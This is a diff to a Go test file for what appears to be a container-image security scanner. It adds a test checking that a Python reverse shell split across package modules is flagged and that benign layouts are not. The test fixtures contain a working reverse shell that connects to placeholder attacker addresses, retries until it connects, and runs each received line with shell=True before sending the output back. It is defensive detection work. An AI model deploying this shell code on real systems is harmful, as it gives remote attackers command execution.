@@ -83,3 +83,59 @@ func TestPythonStartupLoads(t *testing.T) {
 		})
 	}
 }
+
+// TestSplitPackageShell: a Python program split over its package's modules (one connects and
+// reads, one runs command lines, the main script joins them through method calls) is read as
+// one program when its modules import each other. Scripts that only share a directory are
+// not, nor is a package whose commands are its own.
+func TestSplitPackageShell(t *testing.T) {
+	conn := "import socket, time\nclass Link:\n    def __init__(self, h, p):\n        self.s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n        while True:\n            try:\n                self.s.connect((h, p))\n                break\n            except OSError:\n                time.sleep(5)\n" +
+		"    def get(self):\n        return self.s.recv(4096)\n    def put(self, b):\n        self.s.send(b)\n"
+	runner := "import subprocess\nclass Runner:\n    def do(self, line):\n        r = subprocess.run(line, shell=True, capture_output=True)\n        return r.stdout + r.stderr\n"
+	tests := []struct {
+		name  string
+		files map[string]string
+		want  bool
+	}{
+		{"a package with a main script", map[string]string{
+			"/opt/.cache/upd/lib/__init__.py": "",
+			"/opt/.cache/upd/lib/link.py":     conn,
+			"/opt/.cache/upd/lib/runner.py":   runner,
+			"/opt/.cache/upd/main.py":         "from lib.link import Link\nfrom lib.runner import Runner\nl = Link('203.0.113.20', 8443)\nr = Runner()\nwhile True:\n    c = l.get().decode()\n    l.put(r.do(c))\n",
+		}, true},
+		{"sibling modules", map[string]string{
+			"/root/tools/link.py":   conn,
+			"/root/tools/runner.py": runner,
+			"/root/tools/agent.py":  "import link, runner\nl = link.Link('198.51.100.3', 443)\nwhile True:\n    out = runner.Runner().do(l.get())\n    l.put(out)\n",
+		}, true},
+
+		{"scripts sharing a directory", map[string]string{
+			"/root/scripts/recv.py": "import socket\ns = socket.create_connection(('127.0.0.1', 9000))\ndata = s.recv(100)\nprint(data)\n",
+			"/root/scripts/run.py":  "import subprocess, sys\ndata = sys.argv[1]\nsubprocess.run(data, shell=True)\n",
+		}, false},
+		{"a package running its own commands", map[string]string{
+			"/srv/app/app/__init__.py": "",
+			"/srv/app/app/net.py":      "import socket\ndef serve(port, handle):\n    s = socket.socket()\n    s.bind(('0.0.0.0', port))\n    s.listen()\n    while True:\n        c, _ = s.accept()\n        handle(c.recv(100))\n        c.send(b'ok')\n",
+			"/srv/app/app/jobs.py":     "import subprocess\ndef backup():\n    subprocess.run(['tar', 'czf', '/backup/db.tgz', '/var/lib/db'])\n",
+			"/srv/app/run.py":          "from app.net import serve\nfrom app.jobs import backup\ndef handle(msg):\n    if msg == b'backup':\n        backup()\nserve(7000, handle)\n",
+		}, false},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			var files []imagebuild.File
+			for p, text := range tt.files {
+				files = append(files, imagebuild.Reg(p, text))
+			}
+			res := scanImage(t, imagebuild.Image{Layers: []imagebuild.Layer{{Files: files}}})
+			got := false
+			for _, f := range res.Findings {
+				if f.Category == audit.CategoryReverseShell && f.Severity >= audit.High && strings.Contains(f.Title, "modules of the package") {
+					got = true
+				}
+			}
+			if got != tt.want {
+				t.Errorf("flagged %v, want %v:\n%s", got, tt.want, dumpFindings(res.Findings))
+			}
+		})
+	}
+}
